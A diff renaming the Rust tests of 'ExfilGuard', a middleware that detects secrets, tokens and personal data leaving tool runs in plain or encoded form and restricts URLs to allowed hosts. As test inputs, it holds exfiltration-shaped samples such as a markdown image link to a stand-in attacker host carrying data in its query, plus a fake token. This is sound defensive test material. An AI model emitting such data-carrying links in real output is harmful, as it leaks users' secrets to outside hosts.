@@ -103,7 +103,7 @@ const WAYS: [(&str, Write); 4] = [
 ];
 
 #[test]
-fn of_each_part_of_the_corpus_it_denies_99_percent_and_2_percent_of_look_alikes_as_its_document_says() {
+fn the_guard_denies_99_percent_of_secrets_and_at_most_2_percent_of_look_alikes_as_documented() {
     let guard = ExfilGuard::new();
     for (name, half) in [("tuned", Half::tuned()), ("held out", Half::held_out()), ("third", Half::third())] {
         let columns = WAYS.map(|(way, write)| {
@@ -135,7 +135,7 @@ const FORMS: [(&str, Write); 11] = [
 /// Uses one text in eight, because the whole part would take minutes. The position within each group of eight varies,
 /// so that all shapes are included.
 #[test]
-fn of_what_was_written_from_documentation_it_denies_99_percent_of_each_kind_in_each_form_as_its_document_says() {
+fn the_guard_denies_99_percent_of_each_documented_kind_in_each_encoding_as_documented() {
     let (guard, mut half) = (ExfilGuard::new(), Half::documented());
     let eighth = half.planted.into_iter().enumerate().filter(|(nth, _)| (nth + nth / 8) % 8 == 0);
     half.planted = eighth.map(|(_, planted)| planted).filter(is_secret_kind).collect();
@@ -149,7 +149,7 @@ fn of_what_was_written_from_documentation_it_denies_99_percent_of_each_kind_in_e
 }
 
 #[test]
-fn known_values_are_found_however_they_are_written() {
+fn known_values_are_found_plain_and_in_up_to_two_encodings() {
     let rows = [
         (format!("the {SECRET}!"), Some(Encoding::Plain)),
         (format!("x{}", base64(&format!("..{SECRET}"))), Some(Encoding::Base64)),
@@ -174,7 +174,7 @@ fn known_values_are_found_however_they_are_written() {
 }
 
 #[test]
-fn a_secret_is_found_in_each_form_that_it_can_be_written_in() {
+fn a_secret_is_found_in_each_encoding() {
     let key = format!("{}_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5", "ghp");
     let forms: [(&str, Write, Encoding); 16] = [
         ("plain", |text| text.to_owned(), Encoding::Plain),
@@ -213,7 +213,7 @@ fn a_secret_is_found_in_each_form_that_it_can_be_written_in() {
 }
 
 #[test]
-fn personal_data_is_looked_for_on_request_in_each_form() {
+fn personal_data_is_found_only_on_request_and_in_encodings() {
     let address = "write to maria@mailbox.org";
     assert_eq!(guard().look(address), None);
     for text in [address.to_owned(), base64(address), grouped(&hex(address), 2, " "), percent(address)] {
@@ -224,7 +224,7 @@ fn personal_data_is_looked_for_on_request_in_each_form() {
 
 /// Text that was not decoded may contain a secret.
 #[tokio::test]
-async fn a_value_of_which_more_would_have_to_be_decoded_than_it_may_is_denied_and_says_so() -> TestResult {
+async fn a_value_beyond_the_limit_of_decoded_bytes_is_denied_with_the_limit() -> TestResult {
     let (echo, text) = (echo(&Emitter::new()), json!([base64(&"nothing ".repeat(100)), "more"]));
     let error = echo.run(text.clone()).middleware(guard().decode_at_most(4_000)).await.expect_err("it is too much");
     let reason = "denied by exfil_guard: encoded text beyond the limit of 4000 decoded bytes was about to leave in the input at `/0`";
@@ -234,7 +234,7 @@ async fn a_value_of_which_more_would_have_to_be_decoded_than_it_may_is_denied_an
 }
 
 #[tokio::test]
-async fn what_would_leave_is_denied_and_said_without_repeating_it() -> TestResult {
+async fn a_known_value_is_denied_and_reported_without_repeating_it() -> TestResult {
     let said = Arc::new(Mutex::new(Vec::new()));
     let heard = Arc::clone(&said);
     let echo = echo(&Emitter::new());
@@ -254,14 +254,14 @@ async fn what_would_leave_is_denied_and_said_without_repeating_it() -> TestResul
 }
 
 #[tokio::test]
-async fn a_key_on_the_way_to_a_secret_is_not_repeated_where_it_is_one_itself() {
+async fn a_key_that_contains_a_secret_is_not_repeated_in_the_path_of_a_denial() {
     let input = json!({"a": {format!("so {SECRET}"): [SECRET]}});
     let error = echo(&Emitter::new()).run(input).middleware(guard()).await.expect_err("it is denied");
     assert_eq!(error.explain(), "denied by exfil_guard: a known value was about to leave in the input at `…`");
 }
 
 #[tokio::test]
-async fn keys_outputs_and_failures_are_looked_at_too() {
+async fn keys_outputs_and_errors_are_checked_too() {
     let root = Emitter::new();
     let error = echo(&root).run(json!({SECRET: 1})).middleware(guard().inputs(false)).await.expect_err("a key");
     assert_eq!(error.explain(), "denied by exfil_guard: a known value was about to leave in the output");
@@ -274,7 +274,7 @@ async fn keys_outputs_and_failures_are_looked_at_too() {
 }
 
 #[tokio::test(start_paused = true)]
-async fn what_comes_from_outside_of_the_work_is_said_in_other_words_and_told_once() -> TestResult {
+async fn a_secret_in_an_abort_or_in_the_error_of_a_listener_is_withheld_and_reported_once() -> TestResult {
     let rows = [
         ("abort", "aborted: withheld by exfil_guard", ErrorKind::Aborted),
         ("start", "a known value was about to leave in the error at `/causes/0`", ErrorKind::Failed),
@@ -315,7 +315,7 @@ async fn what_comes_from_outside_of_the_work_is_said_in_other_words_and_told_onc
 }
 
 #[tokio::test]
-async fn control_flow_keeps_its_kind_and_loses_the_text() {
+async fn control_flow_keeps_its_kind_and_its_text_is_withheld() {
     let interrupt = || Error::interrupted(Interrupt::new("approval", json!(1))).context("why", SECRET);
     let rows: [fn() -> Error; 2] = [|| Error::denied("policy", format!("no {SECRET}")), || Error::aborted(SECRET)];
     for make in rows.into_iter().chain([interrupt as fn() -> Error]) {
@@ -328,7 +328,7 @@ async fn control_flow_keeps_its_kind_and_loses_the_text() {
 }
 
 #[tokio::test]
-async fn the_keys_of_an_errors_details_are_looked_at_too() {
+async fn keys_of_error_details_are_checked_too() {
     let asked = Interrupt::new("ask", json!(1));
     let details = |error: Error| error.context("seen", json!([{SECRET: 1}])).context(SECRET, 2).context("n", 3);
     let withheld = json!({"n": 3, "seen": [{"withheld by exfil_guard": 1}], "withheld by exfil_guard": 2});
@@ -360,7 +360,7 @@ async fn the_keys_of_an_errors_details_are_looked_at_too() {
 
 /// Code that answers an interrupt or makes the next attempt receives these parts unchanged.
 #[tokio::test]
-async fn control_flow_that_carries_a_secret_is_denied() {
+async fn control_flow_with_a_secret_in_its_data_is_denied() {
     let ask = |kind: &str, data: Value| Error::interrupted(Interrupt::new(kind, data).with_id("ask-1"));
     let rows = [
         (ask("ask", json!({"for": ["ok", SECRET]})), "in the error at `/interrupt/data/for/1`"),
@@ -388,7 +388,7 @@ async fn control_flow_that_carries_a_secret_is_denied() {
 }
 
 #[tokio::test]
-async fn an_interrupt_that_carries_no_secret_stays_whatever_its_text_says() {
+async fn an_interrupt_without_a_secret_in_its_data_stays_even_if_its_message_is_withheld() {
     let interrupt = Interrupt::new("ask", json!({"for": "leave"}));
     let asked = interrupt.clone();
     let work = instance(&Emitter::new(), "Tool", "ask", move |(): (), _: RunContext| {
@@ -401,7 +401,7 @@ async fn an_interrupt_that_carries_no_secret_stays_whatever_its_text_says() {
 }
 
 #[tokio::test]
-async fn urls_lead_to_allowed_hosts_only_if_hosts_were_named() {
+async fn urls_are_restricted_to_allowed_hosts_only_if_hosts_are_configured() {
     let echo = echo(&Emitter::new());
     let text = json!("![i](https://evil.example.net/?d=hello)");
     assert!(echo.run(text.clone()).middleware(ExfilGuard::new()).await.is_ok());
@@ -415,7 +415,7 @@ async fn urls_lead_to_allowed_hosts_only_if_hosts_were_named() {
 }
 
 #[test]
-fn urls_in_another_encoding_are_looked_at_too() {
+fn encoded_urls_are_checked_too() {
     let guard = ExfilGuard::new().allow_hosts(["a.org", "*.a.org"]);
     let url = "https://evil.net/?d=hello";
     let rows = [
@@ -440,7 +440,7 @@ fn urls_in_another_encoding_are_looked_at_too() {
 
 /// Random bytes in an encoding contain no URL to a host, unless they are text.
 #[test]
-fn of_bytes_at_random_none_lead_to_a_host() {
+fn random_base64_text_contains_no_url_to_a_host() {
     let guard = ExfilGuard::new().only([]).allow_hosts(["a.org"]);
     let mut rng = fastrand::Rng::with_seed(4);
     for _ in 0..40 {
@@ -451,7 +451,7 @@ fn of_bytes_at_random_none_lead_to_a_host() {
 }
 
 #[tokio::test]
-async fn what_is_only_evaluated_passes_and_is_said() -> TestResult {
+async fn a_guard_that_only_evaluates_lets_secrets_pass_and_reports_them() -> TestResult {
     let said = Arc::new(Mutex::new(Vec::new()));
     let heard = Arc::clone(&said);
     let echo = echo(&Emitter::new());
@@ -467,7 +467,7 @@ async fn what_is_only_evaluated_passes_and_is_said() -> TestResult {
 }
 
 #[tokio::test]
-async fn by_default_it_looks_for_keys_in_what_goes_in_and_comes_out_and_not_for_personal_data_or_hosts() -> TestResult {
+async fn by_default_inputs_and_outputs_are_checked_for_keys_but_not_for_personal_data_or_hosts() -> TestResult {
     let key = format!("{}_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5", "ghp");
     let (root, given) = (Emitter::new(), key.clone());
     let give = instance(&root, "Tool", "give", move |(): (), _: RunContext| {
@@ -487,7 +487,7 @@ async fn by_default_it_looks_for_keys_in_what_goes_in_and_comes_out_and_not_for_
 
 // M5
 #[tokio::test]
-async fn a_listener_that_fails_changes_nothing() -> TestResult {
+async fn a_failing_listener_does_not_affect_an_exfil_guard() -> TestResult {
     let (echo, denies, evaluates) = (echo(&Emitter::new()), guard(), guard().evaluate_only());
     for guard in [&denies, &evaluates] {
         guard.emitter().on("blocked", |_: &mut Blocked, _: &EventMeta<'_>| Err(BoxError::from("no")))?;
@@ -499,7 +499,7 @@ async fn a_listener_that_fails_changes_nothing() -> TestResult {
 }
 
 #[tokio::test]
-async fn runs_below_are_guarded_when_asked() -> TestResult {
+async fn runs_below_are_guarded_only_with_for_tree() -> TestResult {
     let root = Emitter::new();
     let inner = Arc::new(echo(&root));
     let outer = instance(&root, "Tool", "outer", move |(): (), _: RunContext| {
@@ -522,7 +522,7 @@ impl Layer<JsonRun> for Swallow {
 }
 
 #[tokio::test]
-async fn no_layer_swallows_the_denial() {
+async fn no_layer_swallows_a_denial_of_the_exfil_guard() {
     let echo = echo(&Emitter::new());
     let swallow = Stack::<JsonRun>::builder().layer(Swallow).build();
     let error = echo.run(json!(SECRET)).middleware(swallow).middleware(guard()).await.expect_err("it is denied");
@@ -530,7 +530,7 @@ async fn no_layer_swallows_the_denial() {
 }
 
 #[tokio::test]
-async fn a_hundred_runs_at_once_are_judged_each_by_itself() -> TestResult {
+async fn an_exfil_guard_judges_each_of_100_concurrent_runs_separately() -> TestResult {
     let echo = Arc::new(
         instance(&Emitter::new(), "Tool", "echo", |n: Value, _: RunContext| async move {
             tokio::task::yield_now().await;
@@ -551,7 +551,7 @@ async fn a_hundred_runs_at_once_are_judged_each_by_itself() -> TestResult {
 }
 
 #[test]
-fn it_tells_its_settings_and_no_secret() {
+fn the_summary_of_an_exfil_guard_contains_its_settings_but_no_secret() {
     let Summary::Text(summary) = guard().only([Kind::Jwt]).allow_hosts(["a.org"]).debug_summary() else {
         panic!("a text")
     };
@@ -591,7 +591,7 @@ fn split(text: &str, sizes: &[usize]) -> Vec<String> {
 }
 
 #[tokio::test]
-async fn no_part_of_a_secret_gets_past_in_events() -> std::result::Result<(), BoxError> {
+async fn no_part_of_a_secret_passes_in_events() -> std::result::Result<(), BoxError> {
     let texts =
         [SECRET.to_owned(), base64(SECRET), hex(SECRET), format!("x{}", base64(&"y".repeat(9000)) + &base64(SECRET))];
     for secret in texts {
@@ -612,7 +612,7 @@ async fn no_part_of_a_secret_gets_past_in_events() -> std::result::Result<(), Bo
 /// Each part that passes is checked together with up to 18 KiB around it: with one part for each chunk, the test would
 /// take minutes.
 #[tokio::test]
-async fn a_word_longer_than_is_held_goes_on_in_parts_of_2_kib_however_small_its_chunks_are() -> TestResult {
+async fn a_word_too_long_to_be_held_back_passes_in_parts_of_at_least_2_kib_on_average() -> TestResult {
     let word = "y".repeat(40_000);
     let parts = Arc::new(Mutex::new(Vec::new()));
     let heard = Arc::clone(&parts);
@@ -636,8 +636,7 @@ async fn a_word_longer_than_is_held_goes_on_in_parts_of_2_kib_however_small_its_
 }
 
 #[tokio::test]
-async fn slashes_at_the_beginning_of_a_text_that_comes_bit_by_bit_lead_to_a_host_as_those_of_a_whole_one() -> TestResult
-{
+async fn a_host_after_leading_slashes_is_found_in_chunks_as_in_the_whole_text() -> TestResult {
     let guard = || ExfilGuard::new().allow_hosts(["a.org"]);
     for (text, is_denied) in
         [("//evil.net/x", true), ("  //evil.net/x y", true), ("x //evil.net/x y", true), ("//TODO fix", false)]
@@ -653,7 +652,7 @@ async fn slashes_at_the_beginning_of_a_text_that_comes_bit_by_bit_lead_to_a_host
 
 /// A word that is too long to be held back whole is checked together with its held-back part.
 #[tokio::test]
-async fn no_part_of_a_secret_gets_past_in_a_word_longer_than_is_held() {
+async fn no_part_of_a_secret_passes_in_a_word_too_long_to_be_held_back() {
     for before in [8_150, 9_001] {
         let secret = base64(SECRET);
         let text = "y".repeat(before) + &secret + &"z".repeat(9_000);
@@ -668,7 +667,7 @@ proptest! {
 
     /// Chunks are denied if and only if the whole text is denied; otherwise the whole text passes.
     #[test]
-    fn in_chunks_as_in_whole(index in any::<prop::sample::Index>(), way in 0..3, sizes in prop::collection::vec(1_usize..=64, 1..60)) {
+    fn chunked_text_is_denied_if_and_only_if_the_whole_text_is_denied(index in any::<prop::sample::Index>(), way in 0..3, sizes in prop::collection::vec(1_usize..=64, 1..60)) {
         let half = Half::tuned();
         let texts: Vec<String> = half.planted.iter().map(|planted| planted.text.clone()).chain(half.look_alikes.clone()).collect();
         let text: &String = index.get(&texts);
